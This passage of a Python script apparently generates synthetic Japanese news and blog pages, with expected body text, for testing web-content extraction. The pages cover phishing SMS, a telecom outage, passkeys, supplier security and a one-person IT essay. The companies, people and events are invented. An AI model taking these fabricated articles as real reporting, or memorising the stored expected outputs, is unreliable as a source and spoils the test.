        ''.join('<li><a href="/%s/">%s (%d)</a></li>' % (rand_id(rng, 5), c, rng.randint(3, 80)) for c in ['脅威解析', 'メール', '脆弱性', 'フィッシング', 'ランサムウェア', 'モバイル', 'イベント', 'お知らせ']))
    head = '\n'.join([
        '<meta http-equiv="Content-Type" content="text/html; charset=euc-jp" />',
        '<meta name="generator" content="Movable Type 4.38" />',
        '<title>%s - ひかりシールド セキュリティブログ</title>' % esc(title),
        '<link rel="stylesheet" href="/styles.css" type="text/css" />',
        '<link rel="alternate" type="application/atom+xml" title="Atom" href="/atom.xml" />',
        '<link rel="EditURI" type="application/rsd+xml" title="RSD" href="/rsd.xml" />',
        '<style type="text/css">%s</style>' % css_blob(rng, ['asset-body', 'asset-meta', 'widget', 'widget-header', 'widget-content', 'comment', 'comment-footer', 'content-nav', 'entry-categories', 'entry-tags', 'trackbacks'], 520, media=False),
        '<script type="text/javascript" src="/mt.js"></script>',
        '<!--\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:trackback="http://madskills.com/public/xml/rss/module/trackback/" xmlns:dc="http://purl.org/dc/elements/1.1/">\n<rdf:Description rdf:about="%s" trackback:ping="http://%s/mt/mt-tb.cgi/1542" dc:title="%s" dc:identifier="%s" dc:subject="脅威解析" dc:description="2月上旬から、国内の企業を狙って、請求書の送付を装ったメールでマルウェアを感染させようとする攻撃が続いています。" dc:creator="脅威解析センター" dc:date="2026-02-16T14:30:00+09:00" />\n</rdf:RDF>\n-->' % (url, host, attr(title), url),
    ])
    return dict(name=name, url=url, content_type=None, encoding='EUC-JP', title=title, published=pub,
                author='脅威解析センター 村井', language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page, html_attrs=' xmlns="http://www.w3.org/1999/xhtml" id="sixapart-standard"', doctype='<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'),
                layout='Security-vendor blog on an old Movable Type install, EUC-JP (meta, lower-case euc-jp): malware analysis with <pre> mail headers and command line, ordered steps, IoC table with hashes; trackbacks, comments, widgets.')


def ja_tv_news():
    name = 'ja_tv_news'
    rng = random.Random(name)
    N = Namer('none', name)
    host = 'news.hikari-tv.example'
    url = 'https://%s/news/20260213/k10014782201000.html' % host
    title = '宅配業者を装ったSMS　被害相談が過去最多に'
    pub = jst(2026, 2, 13, 19, 2)
    blocks = [
        ('p', '宅配業者の不在通知を装ったSMS＝ショートメッセージで偽のサイトに誘導し、個人情報をだまし取る手口について、昨年1年間に全国の消費生活センターなどに寄せられた相談が、過去最多となったことがわかりました。'),
        ('p', '国民生活に関する相談を集計している機関によりますと、去年1年間に寄せられた宅配業者を装うSMSに関する相談は、およそ1万8,000件で、前の年より3割ほど増えました。'),
        ('p', 'SMSには「お荷物をお届けにあがりましたが不在のため持ち帰りました」などと書かれ、記載されたリンクを開くと、実在する宅配業者のものとそっくりな偽のサイトが表示されます。'),
        ('p', 'サイトに携帯電話の番号や暗証番号を入力すると、携帯電話の料金と合わせて支払う「キャリア決済」で、高額な電子マネーなどを購入される被害が相次いでいるということです。'),
        ('h', '専門家「リンクは開かずに公式アプリで確認を」'),
        ('p', '消費者問題に詳しい弁護士の河野美奈子さんは「最近の偽サイトは本物との見分けがほとんどつかない。SMSのリンクは開かず、荷物の状況は宅配業者の公式アプリやサイトで確認してほしい」と話しています。'),
        ('p', 'また、万が一、情報を入力してしまった場合は、すぐに携帯電話会社に連絡してキャリア決済を停止するとともに、パスワードを変更するよう呼びかけています。'),
    ]
    body = render(blocks, 'ja', h_tag='h2', h_cls='kiji-midashi', p_cls='kiji-honbun-p')
    heads = ja_headlines(rng, 50, 0.6)
    vids = ''.join('<li class="douga-item"><a href="/news/%s"><img src="https://%s/thumb/%s.jpg" alt="" width="160" height="90"><span class="douga-time">%d:%02d</span><span class="douga-title">%s</span></a></li>' % (
        s, host, rand_id(rng, 10), rng.randint(0, 3), rng.randint(0, 59), esc(t)) for t, _, s in heads[30:42])
    page = '''
<body class="kiji-page">
%s
<div id="zentai">
<header id="header-zentai" class="header"><div class="header-logo"><a href="/"><img src="/img/logo_hikari.svg" alt="ひかりテレビ NEWS" width="200" height="36"></a></div>
<nav class="g-navi"><ul>%s</ul></nav>
<div class="header-live"><a href="/live/">ライブ配信中</a></div></header>
<div id="sokuho" class="sokuho-bar" role="marquee"><span class="sokuho-label">速報</span><a href="/news/sokuho/">%s</a></div>
<div class="kiji-area">
<main class="kiji-main">
<div class="kiji-header"><span class="kiji-category"><a href="/news/cat01/">社会</a></span><h1 class="kiji-title"><span>%s</span></h1><p class="kiji-hiduke"><time datetime="%s">2026年2月13日 19時02分</time></p>%s</div>
<div class="kiji-douga"><div class="video-player" data-video-id="k10014782201000" data-duration="134"><button class="video-play" aria-label="動画を再生">%s</button><img src="https://%s/video/k10014782201000.jpg" alt=""><p class="video-caption">動画 2分14秒</p></div></div>
<div class="kiji-honbun" id="kiji-honbun">
%s
</div>
<div class="kiji-share-bottom">%s</div>
<section class="kanren-kiji"><h2 class="kanren-kiji-title">関連ニュース</h2><ul>%s</ul></section>
<section class="osusume"><h2 class="osusume-title">この記事を読んだ人はこんな記事も</h2><ul>%s</ul></section>
<section class="douga-list"><h2>動画一覧</h2><ul>%s</ul></section>
<div class="kiji-tokushu"><h2>特集</h2><p>%s</p></div>
</main>
<aside class="kiji-side">
%s
%s
%s
</aside>
</div>
%s
</div>
<script src="/js/player.js?v=3.2.1" defer></script>
</body>''' % (
        svg_sprite(rng),
        ''.join('<li><a href="/news/%s/">%s</a></li>' % (rand_id(rng, 5), g) for g in ['トップ', '社会', '気象・災害', '科学・文化', '政治', 'ビジネス', '国際', 'スポーツ', '暮らし', '地域', '特集', '動画', 'ランキング']),
        esc(heads[0][0]), esc(title), iso(pub), share_buttons(rng, N, 'ja', url), svg_icon(rng, 'play', 'ico', 48), host, body,
        share_buttons(rng, N, 'ja', url),
        ''.join('<li><a href="/news/%s"><span class="kanren-date">2月%d日</span>%s</a></li>' % (s, rng.randint(1, 12), esc(t)) for t, _, s in heads[1:7]),
        ''.join('<li class="osusume-item"><a href="/news/%s"><img src="https://%s/thumb/%s.jpg" alt="" width="120" height="68"><p class="osusume-midashi">%s</p><p class="osusume-yoyaku">%s</p></a></li>' % (
            s, host, rand_id(rng, 10), esc(t), esc(tz_)) for t, tz_, s in heads[7:15]),
        vids, esc('災害への備えをどう進めるか。各地の取り組みや専門家の提言を、動画とともにまとめてお伝えします。地震や豪雨などの災害が起きたときに役立つ情報もあわせて掲載しています。'),
        ranking(rng, N, 'ja', heads[15:25], 'アクセスランキング'),
        related_list(rng, N, 'ja', heads[42:48], '注目のニュース', teasers=True, images=False),
        '<div class="side-weather"><h2>各地の天気</h2><ul>%s</ul></div>' % ''.join('<li>%s <span>%s</span> %d℃</li>' % (c, rng.choice(['晴れ', 'くもり', '雨', '雪']), rng.randint(-2, 18)) for c in ['札幌', '仙台', '新潟', '東京', '名古屋', '大阪', '広島', '高松', '福岡', '那覇']),
        site_footer(rng, N, 'ja', 'Hikari Television Network', cols=4))
    head = '\n'.join([
        '<meta charset="UTF-8">', '<title>%s | ひかりテレビ NEWS</title>' % esc(title),
        '<meta name="description" content="%s">' % attr(blocks[0][1]), common_head_links(rng, host, 4),
        og_meta(title, blocks[0][1], url, 'https://%s/video/k10014782201000.jpg' % host, 'ひかりテレビ NEWS', pub=pub),
        '<link rel="canonical" href="%s">' % url,
        '<style>%s</style>' % css_blob(rng, ['kiji-honbun', 'kiji-title', 'kiji-midashi', 'kanren-kiji', 'osusume', 'osusume-item', 'douga-item', 'kiji-side', 'sokuho-bar', 'video-player', 'g-navi', 'header', 'ranking', 'ico'], 750),
        gtm_snippet('GTM-HKTV12'),
        '<script>var __hikariNews = %s;</script>' % js({'id': 'k10014782201000', 'video': {'duration': 134, 'src': 'https://vod.%s/k10014782201000/master.m3u8' % host}, 'genre': ['社会'], 'recommend': [{'t': t, 's': tz_} for t, tz_, _ in heads[:30]]}),
        news_ld(title, url, pub, publisher='ひかりテレビ', logo='https://%s/img/logo.png' % host, image='https://%s/video/k10014782201000.jpg' % host,
                body=expected_text(blocks)[:90] + '…'),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='ja', canonical_url=url, blocks=blocks, html=doc('ja', head, page),
                layout='TV broadcaster news site with romaji classes (kiji-honbun, kanren-kiji, osusume): video player, breaking-news ticker, short TV-script paragraphs, 「この記事を読んだ人はこんな記事も」 with summaries, JSON-LD articleBody truncated.')


def ja_liveblog():
    name = 'ja_liveblog'
    rng = random.Random(name)
    N = Namer('bem', name, 'l-')
    host = 'www.keizai-now.example'
    url = 'https://%s/live/2026/03/05/tsushin-shogai' % host
    title = '【随時更新】ソラネット通信で大規模障害　携帯電話が全国でつながりにくく'
    pub = jst(2026, 3, 5, 9, 30)
    updates = [
        ((17, 45), '全面復旧を発表、原因は設定変更の誤り', [
            'ソラネット通信は午後5時半、すべての地域で通信サービスが復旧したと発表した。障害は約10時間続いた。',
            '同社によると、午前7時ごろに実施した通信設備のソフトウェア更新で設定に誤りがあり、利用者の認証を行う装置に処理が集中したという。サイバー攻撃によるものではないとしている。']),
        ((15, 10), '総務省が報告を要請', [
            '総務省は、影響が大きい「重大な事故」に当たる可能性があるとして、ソラネット通信に対し、原因と再発防止策を報告するよう求めた。']),
        ((13, 20), '社長が謝罪「復旧を最優先に」', [
            'ソラネット通信の岩城誠社長は本社で記者団の取材に応じ、「多くのお客さまにご不便とご迷惑をおかけし、深くおわびします。復旧を最優先に取り組んでいる」と述べた。',
            '補償については「現時点では決まっていない。影響の範囲を確認した上で検討する」と話した。']),
        ((11, 5), '一部地域で回復の兆し', [
            '同社は、東北と北陸の一部地域で音声通話が回復しつつあると明らかにした。データ通信は引き続きつながりにくい状態だという。',
            '鉄道各社では、駅の自動改札でスマートフォンを使った乗車ができない事例が相次ぎ、係員が対応に追われた。']),
        ((9, 30), '朝から全国で通信障害', [
            '携帯電話大手のソラネット通信で、5日午前7時ごろから全国的に音声通話とデータ通信がつながりにくくなっている。同社は障害が発生していることを認め、原因を調べている。',
            '利用者からは「電話もメッセージも送れない」「仕事の連絡が取れない」といった声が上がっている。']),
    ]
    blocks = [('p', 'ソラネット通信の通信障害に関する最新の情報をお伝えします（時刻は日本時間）。')]
    for (h, m), head_, paras in updates:
        blocks.append(('raw', '<li class="%s" id="post-%02d%02d"><div class="%s"><time datetime="2026-03-05T%02d:%02d:00+09:00">%d:%02d</time><span class="%s">更新</span></div><div class="%s">' % (
            N('live', 'post'), h, m, N('live', 'post-meta'), h, m, h, m, N('live', 'badge'), N('live', 'post-body'))))
        blocks.append(('h', head_, 3))
        for p in paras:
            blocks.append(('p', p))
        blocks.append(('raw', '</div>%s</li>' % share_buttons(rng, N, 'ja', url + '#post-%02d%02d' % (h, m))))
    # wrap updates in a list
    blocks.insert(1, ('raw', '<ol class="%s">' % N('live', 'timeline')))
    blocks.append(('raw', '</ol>'))
    body = render(blocks, 'ja', h3_tag='h3', h3_cls=N('live', 'post-title'), p_cls=N('live', 'text'))
    heads = ja_headlines(rng, 40, 0.7)
    page = '''
<body class="%s">
%s
<header class="%s"><a class="%s" href="/">経済ナウ</a>%s<a class="%s" href="/member/">会員登録</a></header>
%s
<div class="%s">
<main class="%s">
<article class="%s">
<div class="%s"><span class="%s">LIVE</span><span>随時更新</span></div>
<h1 class="%s">%s</h1>
<p class="%s">最終更新 <time datetime="2026-03-05T17:45:00+09:00">2026年3月5日 17:45</time></p>
<div class="%s">%s</div>
<div class="%s">
%s
</div>
<div class="%s"><button type="button">さらに読み込む</button></div>
%s
</article>
</main>
<aside class="%s">%s%s%s</aside>
</div>
%s
</body>''' % (
        N('page'), svg_sprite(rng), N('header'), N('header', 'logo'), mega_menu(rng, N, 'ja'), N('header', 'member'),
        ad_slot(rng, N, 'ja', 'ad-live-top', (970, 90)), N('container'), N('main'), N('live'), N('live', 'status'), N('live', 'label'),
        N('live', 'title'), esc(title), N('live', 'updated'), N('live', 'share'), share_buttons(rng, N, 'ja', url, 96),
        N('live', 'body'), body, N('live', 'more'), related_list(rng, N, 'ja', heads[:6], '関連記事', teasers=True),
        N('side'), ad_slot(rng, N, 'ja', 'ad-live-side', (300, 250)), ranking(rng, N, 'ja', heads[6:16]), newsletter_box(N, 'ja', 1),
        site_footer(rng, N, 'ja', 'Keizai Now Media', cols=5))
    ld = {'@context': 'https://schema.org', '@type': 'LiveBlogPosting', 'headline': title, 'coverageStartTime': iso(pub), 'coverageEndTime': '2026-03-05T18:00:00+09:00',
          'datePublished': iso(pub), 'dateModified': '2026-03-05T17:45:00+09:00',
          'liveBlogUpdate': [{'@type': 'BlogPosting', 'headline': h_, 'datePublished': '2026-03-05T%02d:%02d:00+09:00' % t} for t, h_, _ in updates]}
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s - 経済ナウ</title>' % esc(title), common_head_links(rng, host, 5),
        og_meta(title, '通信障害に関する最新情報', url, 'https://%s/og/live.jpg' % host, '経済ナウ', pub=pub),
        '<style>%s</style>' % page_css(rng, N, 650), gtm_snippet('GTM-KZNW01'), ad_loader(rng, ['ad-live-top', 'ad-live-side']),
        state_blob('__NUXT__', make_state(rng, 'ja', ja_headlines(rng, 30, 0.7), host, {'live': {'id': 'tsushin-shogai', 'poll': 30, 'status': 'ended'}})),
        jsonld(ld),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page),
                layout='Live blog (BEM), newest first: intro line plus 5 timestamped updates in an <ol>, each with h3 and paragraphs (timestamps, badges and per-update share buttons are not body), LiveBlogPosting JSON-LD.')


def ja_media_split_ads():
    name = 'ja_media_split_ads'
    rng = random.Random(name)
    N = Namer('util', name)
    host = 'bizlab-online.example'
    url = 'https://%s/articles/-/48213' % host
    title = 'パスキーは「万能」ではない　導入企業が語る3つの落とし穴'
    pub = jst(2026, 2, 19, 6, 0)
    heads = ja_headlines(rng, 40, 0.4)
    cont = 'article-body ' + N('article-body')

    def split(i):
        return ('raw', '</div>\n%s\n%s\n<div class="%s">' % (
            ad_slot(rng, N, 'ja', 'ad-inarticle-%d' % i, (300, 250)), inline_related(N, 'ja', heads[i * 3:i * 3 + 3]), cont))
    blocks = [
        ('p', 'パスワードの代わりに、スマートフォンの生体認証などでログインできる「パスキー」。フィッシングに強い認証方式として、ネット企業を中心に導入が広がっている。ただ、先行して導入した企業からは「思っていたより簡単ではなかった」という声も聞こえてくる。'),
        ('p', '会員数約200万人の通販サイトを運営する七海フーズでは、昨年4月にパスキーによるログインを導入した。1年がたった今、パスキーを登録した会員は全体の18%にとどまる。'),
        split(1),
        ('h', '落とし穴1：登録してもらえない'),
        ('p', '「ログイン画面に案内を出すだけでは、ほとんど登録されなかった」。七海フーズでEC事業の開発を率いる宮原健太氏はそう振り返る。会員にとって、今のパスワードで困っていなければ、わざわざ新しい方式に切り替える理由がないからだ。'),
        ('p', '同社が効果を上げたのは、購入完了画面での案内だった。買い物を終えて気持ちに余裕のある場面で、「次回から指紋や顔でログインできます」と表示したところ、登録率は約3倍に伸びたという。'),
        ('h', '落とし穴2：機種変更で使えなくなる'),
        ('p', '問い合わせで最も多かったのは、スマートフォンを買い替えた後にログインできなくなったという相談だ。パスキーを同期する設定をしていなかったり、別のメーカーの端末に乗り換えたりした場合に起きやすい。'),
        split(2),
        ('p', '同社は、パスキーでログインできない場合に備えて、メールアドレスに届く確認コードによる再設定の手順を用意した。ただし、この経路が弱ければ、攻撃者はそこを狙ってくる。宮原氏は「結局、一番弱い経路の強さが全体の強さになる」と話す。'),
        ('h', '落とし穴3：社内の理解'),
        ('p', '意外な壁は社内にあった。カスタマーサポートの担当者が仕組みを理解しておらず、問い合わせに「パスワードを再設定してください」と案内してしまう例が相次いだ。同社はサポート向けの研修を3回実施し、回答例を整備した。'),
        ('p', '認証技術に詳しい灯台ソフトウェアの技術責任者、堀江彩氏は「パスキーは強力だが、導入すれば終わりではない。回復手段の設計とサポート体制まで含めて考える必要がある」と指摘する。'),
    ]
    body = render(blocks, 'ja', h_tag='h2', h_cls=N('article', 'h2'), p_cls=N('article', 'p'))
    page = '''
<body class="%s">
%s
<header class="%s"><div class="%s"><a href="/" class="%s">ビズラボ・オンライン</a>%s</div></header>
<div class="%s">
<main class="%s">
<article class="%s">
%s
<div class="%s"><span class="%s">テクノロジー</span><h1 class="%s">%s</h1><p class="%s">先行企業の経験から見えた、認証の「その先」の課題</p>
<div class="%s"><span>ビズラボ編集部 岡田紗希</span><time datetime="%s">2026/02/19 6:00</time></div>%s</div>
%s
<div class="%s">
%s
</div>
%s
%s
%s
%s
</article>
</main>
<aside class="%s">%s%s%s</aside>
</div>
%s
</body>''' % (
        N('body'), svg_sprite(rng), N('header'), N('header', 'inner'), N('header', 'logo'), mega_menu(rng, N, 'ja', JA_NAV_IT),
        N('layout'), N('main'), N('article'),
        breadcrumbs(N, [('ホーム', '/'), ('テクノロジー', '/category/tech'), ('セキュリティ', '/category/security')]),
        N('article', 'head'), N('article', 'cat'), N('article', 'title'), esc(title), N('article', 'lead'),
        N('article', 'byline'), iso(pub), share_buttons(rng, N, 'ja', url, 41),
        figure(rng, N, 'スマートフォンの生体認証でログインする様子（写真はイメージ）', 'スマートフォンでログインする手元', 'PIXTA'),
        cont, body, share_buttons(rng, N, 'ja', url), tag_list(N, 'ja', ['パスキー', '認証', 'EC', 'フィッシング']),
        author_box(N, 'ja', '岡田紗希', '経済誌記者を経て2021年からビズラボ編集部。IT、スタートアップ、働き方を担当。'),
        related_list(rng, N, 'ja', heads[12:20], 'おすすめ記事', teasers=True),
        N('aside'), ad_slot(rng, N, 'ja', 'ad-side-a', (300, 250)), ranking(rng, N, 'ja', heads[20:30], 'よく読まれている記事', views=True), pr_teasers(rng, N, 'ja', 4),
        site_footer(rng, N, 'ja', 'BizLab Online', cols=4))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | ビズラボ・オンライン</title>' % esc(title), common_head_links(rng, host, 6),
        '<meta name="description" content="%s">' % attr(blocks[0][1][:80]),
        og_meta(title, blocks[0][1][:80], url, 'https://%s/og/48213.jpg' % host, 'ビズラボ・オンライン', pub=pub),
        '<style>%s</style>' % css_blob(rng, UTIL + ['article-body'], 700), gtm_snippet('GTM-BZLB02'),
        ad_loader(rng, ['ad-inarticle-1', 'ad-inarticle-2', 'ad-side-a']),
        state_blob('__APOLLO_STATE__', make_state(rng, 'ja', ja_headlines(rng, 30, 0.5), host)),
        news_ld(title, url, pub, author='岡田紗希', publisher='ビズラボ・オンライン', logo='https://%s/logo.png' % host),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='岡田紗希', language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page),
                layout='Business web media with Tailwind-style utility classes: body split into 3 sibling containers by in-article ads and 「あわせて読みたい」 boxes; figure before the body, tags, author box, recommended articles.')


def ja_business_keypoints():
    name = 'ja_business_keypoints'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'xtech-review.example'
    url = 'https://%s/atcl/nxt/column/18/02931/021300004/' % host
    title = '取引先のセキュリティ、どこまで確認すべきか　調達部門が担う新しい役割'
    pub = jst(2026, 2, 13, 5, 0)
    blocks = [
        ('raw', '<div class="%s">' % N('summary')),
        ('h', 'この記事のポイント'),
        ('ul', ['サプライチェーン経由の攻撃が増え、取引先の対策状況の確認が調達の要件になりつつある',
                '質問票を送るだけでは実態は分からず、重要度に応じて確認の深さを変える必要がある',
                '取引先を「選別」するのではなく、一緒に底上げする姿勢が長期的には効く']),
        ('raw', '</div>'),
        ('p', '自社の守りを固めても、取引先から侵入されれば意味がない。サプライチェーンを経由したサイバー攻撃への警戒が強まるなか、取引先のセキュリティ対策の状況を確認する役割が、情報システム部門から調達部門へと広がり始めている。'),
        ('p', '部品メーカーなど約1,200社と取引する三日月ホールディングスは、2025年度から新規の取引先に対して、セキュリティに関する質問票への回答を求めている。質問は約40項目。バックアップの取得状況や多要素認証の導入有無などを尋ねる。'),
        ('h', '質問票の「全部はい」は信用できない'),
        ('p', 'ただ、運用を始めてすぐに課題が見えた。回答のほとんどが「はい」で埋められていたのだ。同社の調達本部で取引先管理を担当する野口隆之氏は「質問票は、相手が正直に、かつ正確に答えてくれることが前提。実際には担当者が自社の状況を把握していないケースも多い」と話す。'),
        ('p', 'そこで同社は、取引先を重要度に応じて3つに分け、確認の深さを変えることにした。'),
        ('table', [['区分', '対象の例', '確認の方法'], ['A', '生産に不可欠な部品の供給元、システムの保守委託先', '質問票に加え、訪問またはオンラインでの面談'],
                   ['B', '個人情報を預ける委託先', '質問票と、根拠となる資料の提出'], ['C', 'その他の取引先', '質問票のみ']]),
        ('h', '「選別」ではなく「底上げ」'),
        ('p', '対策が不十分な取引先が見つかった場合でも、同社はすぐに取引を見直すわけではない。代わりに、対策の優先順位を示した手引きを提供したり、共同で研修を開いたりしている。'),
        ('p', '野口氏は「取引先を切り捨てれば、調達先の選択肢が狭まり、結局は自社の事業継続が危うくなる。時間はかかっても、一緒に水準を上げていくほうが現実的だ」と語る。'),
        ('p', '経済産業省も、取引先への過度な要求が下請けいじめにつながらないよう注意を促している。確認の目的を丁寧に説明し、費用の負担についても話し合う姿勢が、発注側には求められている。'),
    ]
    body = render(blocks, 'ja', h_tag='h2', h_cls=N('body', 'heading'), p_cls=N('body', 'text'), table_cls=N('body', 'table'), ul_cls=N('summary', 'list'))
    heads = ja_headlines(rng, 40, 0.2)
    picks = ''.join('<li class="%s"><a href="/atcl/%s"><img src="https://%s/img/%s.jpg" alt="" width="200" height="112"><p class="%s">%s</p><p class="%s">%s</p></a></li>' % (
        N('picks', 'item'), s, host, rand_id(rng, 10), N('picks', 'title'), esc(t), N('picks', 'desc'), esc(tz_)) for t, tz_, s in heads[:8])
    page = '''
<body>
<div id="__layout">
<header class="%s"><a href="/" class="%s">xTech Review</a>%s<div class="%s"><a href="/login">ログイン</a><a href="/subscribe" class="%s">有料会員になる</a></div></header>
%s
<div class="%s">
<main class="%s">
<article class="%s">
<header class="%s"><p class="%s">連載：調達とセキュリティ</p><h1 class="%s">%s</h1>
<div class="%s"><span>吉川 舞</span><span>xTech Review</span><time datetime="%s">2026.02.13</time></div>%s</header>
<div class="%s">
%s
</div>
<div class="%s">%s</div>
<section class="%s"><h2 class="%s">編集部のおすすめ</h2><ul class="%s">%s</ul></section>
%s
</article>
</main>
<aside class="%s">%s%s%s</aside>
</div>
%s
</div>
</body>''' % (
        N('header'), N('header', 'logo'), mega_menu(rng, N, 'ja', JA_NAV_IT), N('header', 'actions'), N('header', 'cta'),
        ad_slot(rng, N, 'ja', 'ad-xt-top', (728, 90)), N('layout'), N('main'), N('article'), N('article', 'header'), N('article', 'series'),
        N('article', 'title'), esc(title), N('article', 'byline'), iso(pub), share_buttons(rng, N, 'ja', url, 77), N('body'), body,
        N('article', 'tags'), tag_list(N, 'ja', ['サプライチェーン', '調達', 'セキュリティ', '経営']),
        N('picks'), N('picks', 'heading'), N('picks', 'list'), picks,
        related_list(rng, N, 'ja', heads[8:14], 'この連載の記事', teasers=True, images=False),
        N('side'), ad_slot(rng, N, 'ja', 'ad-xt-side', (300, 600)), ranking(rng, N, 'ja', heads[14:24], '日間ランキング'),
        newsletter_box(N, 'ja', 0), site_footer(rng, N, 'ja', 'xTech Review', cols=5))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | xTech Review</title>' % esc(title), common_head_links(rng, host, 5),
        og_meta(title, blocks[4][1][:70], url, 'https://%s/og/02931.jpg' % host, 'xTech Review', pub=pub),
        '<style>%s</style>' % page_css(rng, N, 800), gtm_snippet('GTM-XTRV03'), ad_loader(rng, ['ad-xt-top', 'ad-xt-side']),
        '<script id="__NEXT_DATA__" type="application/json">%s</script>' % js({'props': {'pageProps': {'article': {'id': '021300004', 'title': title, 'series': '調達とセキュリティ', 'paywall': False}, 'ranking': [{'title': t, 'summary': z} for t, z, _ in heads[14:34]]}}, 'page': '/atcl/[...slug]', 'buildId': rand_id(rng, 20)}),
        news_ld(title, url, pub, author='吉川舞', publisher='xTech Review', logo='https://%s/logo.png' % host),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='吉川舞', language='ja', canonical_url=None, blocks=blocks, html=doc('ja', head, page),
                layout='Business-tech magazine (hashed classes): 「この記事のポイント」 box at the top of the body (body), table of supplier tiers, 「編集部のおすすめ」 card list with summaries after the body (not body).')


def ja_note_column():
    name = 'ja_note_column'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'essay-note.example'
    url = 'https://%s/hitori_joshis/n/n3f8a1c7e2b90' % host
    title = 'ひとり情シスを3年やって分かった、「守る」より先にやるべきこと'
    pub = jst(2026, 1, 27, 20, 15)
    blocks = [
        ('p', '社員80人の会社で、たった一人の情報システム担当になって3年がたちました。前職は営業で、入社したときはサーバとパソコンの違いもよく分かっていませんでした。'),
        ('p', 'この3年間で、ランサムウェアの話題を聞かない月はありませんでした。社長からも「うちは大丈夫なのか」と何度も聞かれました。でも、振り返ってみて一番効果があったのは、新しいセキュリティ製品を入れたことではなかったと思っています。'),
        ('h', '最初にやったのは「台帳づくり」'),
        ('p', '着任して最初の半年は、ひたすら社内にある機器とアカウントを数えていました。パソコン、複合機、ルーター、NAS、クラウドサービスのアカウント。誰が何を使っていて、誰が管理しているのか。'),
        ('p', '驚いたのは、誰も存在を知らないNASが倉庫の棚の上で動いていたことです。10年以上前に当時の総務課長が設置したもので、中には退職した社員の名簿がそのまま残っていました。'),
        ('quote', '知らないものは守れない。'),
        ('p', 'ありきたりな言葉ですが、身をもって実感しました。台帳ができてから、ようやく「何から守るか」を考えられるようになりました。'),
        ('h', '次に「やめること」を決めた'),
        ('p', '台帳をもとに、使われていないサービスや機器を一つずつ止めていきました。契約だけ残っていたクラウドサービスが7つ、使われていない共有アカウントが20以上ありました。'),
        ('p', '止めるときには必ず反対されます。「いつか使うかもしれない」と。そのときは、1か月止めてみて誰も困らなければ廃止する、というルールにしました。結果的に、困った人はほとんどいませんでした。'),
        ('h', 'ひとりで抱え込まない'),
        ('p', 'もう一つ大事だったのは、社外に相談できる相手をつくることでした。地元の商工会議所が開いている勉強会に参加して、同じような立場の人たちと知り合えたのは本当に大きかったです。'),
        ('p', 'これから情シスの担当になる人がいたら、高価な製品を検討する前に、まずは自分の会社に何があるのかを数えてみてほしいと思います。'),
    ]
    body = render(blocks, 'ja', h_tag='h2', p_cls=None, quote_cls=N('note', 'quote'))
    # note-like: every paragraph carries name/id attributes
    cnt = [0]

    def _pid(m):
        cnt[0] += 1
        k = rand_id(rng, 8, 'abcdef0123456789')
        return '<%s name="%s" id="%s">' % (m.group(1), k, k)
    body = re.sub(r'<(p|h2)>', _pid, body)
    heads = ja_headlines(rng, 20, 0.5)
    creators = [('春野あかり', '地方の製造業で経理と総務と情シスを兼務しています。'), ('てつお@中小企業診断士', '中小企業のIT活用について書いています。'),
                ('まるこ', '元SIer、今はフリーランス。ITの話と子育ての話。'), ('Kenji Tanabe', '情報セキュリティの勉強記録。資格試験の体験記も。')]
    page = '''
<body>
<div id="__nuxt"><div id="__layout"><div class="%s">
<header class="%s"><a href="/" class="%s">essay note</a><form class="%s"><input type="search" placeholder="キーワードやクリエイターで検索"></form><a href="/login" class="%s">ログイン</a><a href="/signup" class="%s">会員登録</a></header>
<main class="%s">
<article class="%s">
<figure class="%s"><img src="https://assets.%s/production/uploads/images/%s.png" alt="" width="1280" height="670"></figure>
<h1 class="%s">%s</h1>
<div class="%s"><a href="/hitori_joshis"><img src="https://assets.%s/icons/hitori.png" alt="" width="40"><span class="%s">ひとり情シスのメモ</span></a><time datetime="%s">2026年1月27日 20:15</time><button class="%s">フォロー</button></div>
<div class="%s" data-name="body">
%s
</div>
<div class="%s"><a href="/hashtag/情シス">#情シス</a><a href="/hashtag/ひとり情シス">#ひとり情シス</a><a href="/hashtag/中小企業">#中小企業</a><a href="/hashtag/セキュリティ">#セキュリティ</a><a href="/hashtag/仕事について話そう">#仕事について話そう</a></div>
<div class="%s"><button class="%s">%s<span>スキ</span><span>1,204</span></button>%s</div>
<div class="%s"><p class="%s">この記事が気に入ったらチップで応援してみませんか？</p><button>チップで応援</button></div>
<div class="%s"><img src="https://assets.%s/icons/hitori.png" alt="" width="64"><p class="%s">ひとり情シスのメモ</p><p class="%s">社員80人の会社のひとり情シス。元営業。失敗したことも含めて、現場で学んだことを書いています。</p><button>フォロー</button></div>
<section class="%s"><h2>コメント</h2>%s</section>
</article>
<section class="%s"><h2>この記事を読んだ人におすすめ</h2>%s</section>
<section class="%s"><h2>おすすめのクリエイター</h2><ul>%s</ul></section>
</main>
%s
</div></div></div>
<script>window.__NUXT__=(function(a,b,c){return %s}(null,false,true));</script>
</body>''' % (
        N('app'), N('header'), N('header', 'logo'), N('header', 'search'), N('header', 'login'), N('header', 'signup'),
        N('main'), N('note'), N('note', 'eyecatch'), host, rand_id(rng, 32), N('note', 'title'), esc(title), N('note', 'creator'), host,
        N('note', 'creator-name'), iso(pub), N('note', 'follow'), 'o-noteContentText ' + N('note', 'body'), body,
        N('note', 'hashtags'), N('note', 'actions'), N('note', 'like'), svg_icon(rng, 'heart'), share_buttons(rng, N, 'ja', url),
        N('support'), N('support', 'text'), N('profile'), host, N('profile', 'name'), N('profile', 'bio'),
